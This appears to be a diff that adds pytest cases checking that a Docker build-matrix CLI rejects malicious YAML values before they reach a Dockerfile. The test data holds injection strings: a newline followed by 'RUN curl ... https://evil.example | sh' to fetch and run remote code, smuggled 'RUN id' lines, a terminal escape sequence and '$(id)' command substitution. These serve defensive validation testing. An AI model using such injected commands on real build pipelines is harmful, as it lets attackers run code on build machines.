@@ -105,3 +105,48 @@ def test_registry_and_repository_grammar() -> None:
     assert repository_problem("prod/ml/jax") is None
     for bad in ("../x", "a/../b", "a//b", "/a", "A", "a/./b", "x" * 256):
         assert repository_problem(bad) is not None, bad
+
+
+def _matrix_with(tmp_path: Path, old: str, new: str) -> Path:
+    text = (ROOT / "matrices" / "demo.yaml").read_text()
+    assert old in text
+    path = tmp_path / "matrix.yaml"
+    path.write_text(text.replace(old, new))
+    return path
+
+
+BASE = 'default: "mirror:debian:bookworm"'
+PACKAGES = 'cpu: ["jax=={framework_version}.*"]'
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "field", "words"),
+    [
+        # a newline starts a new Dockerfile instruction
+        (BASE, 'default: "debian:12\\nRUN curl -s https://evil.example | sh"', "base.default", "control character"),
+        (BASE, 'default: "debian:12 AS x\\rRUN id"', "base.default", "control character"),
+        (BASE, 'default: "debian:12 # RUN id"', "base.default", "not an image reference"),
+        (PACKAGES, 'cpu: ["jax\\nRUN id"]', "packages.cpu[0]", "control character"),
+        (PACKAGES, 'cpu: ["jax\\u001b]0;pwned\\u0007"]', "packages.cpu[0]", "control character"),
+        (BASE, BASE + '\nbuild_args: {X: "1\\"\\nRUN id #"}', "build_args.X", "control character"),
+        (BASE, BASE + '\nbuild_args: {X: "$(id)"}', "build_args.X", 'inside "..."'),
+        (BASE, BASE + '\nbuild_args: {"X=1 RUN": "1"}', "build_args.X=1 RUN", "not an ARG name"),
+        # secrets: refused with the BuildKit-secret hint
+        (BASE, BASE + '\nbuild_args: {API_TOKEN: "abc"}', "build_args.API_TOKEN", "BuildKit secret"),
+        (BASE, BASE + '\nbuild_args: {pip_password: "abc"}', "build_args.pip_password", "BuildKit secret"),
+        (BASE, BASE + '\nbuild_args: {HF_AUTH: "abc"}', "build_args.HF_AUTH", "BuildKit secret"),
+    ],
+)
+def test_matrix_strings_that_reach_the_dockerfile_are_validated(
+    cli: Cli, tmp_path: Path, old: str, new: str, field: str, words: str
+) -> None:
+    path = _matrix_with(tmp_path, old, new)
+    out = cli("matrix", "list", "--matrix", str(path), "--json", code=10, cwd=ROOT)
+    problems = out.json()["error"]["details"]["problems"]
+    assert any(p["path"] == field and words in p["message"] for p in problems), problems
+    assert "\n" not in "".join(p["message"] for p in problems)  # shown escaped, on one line
+
+
+def test_ordinary_build_args_pass(cli: Cli, tmp_path: Path) -> None:
+    path = _matrix_with(tmp_path, BASE, BASE + '\nbuild_args: {TORCH_CUDA_ARCH_LIST: "8.0;9.0", MAX_JOBS: "8"}')
+    cli("matrix", "list", "--matrix", str(path), "--json", cwd=ROOT)
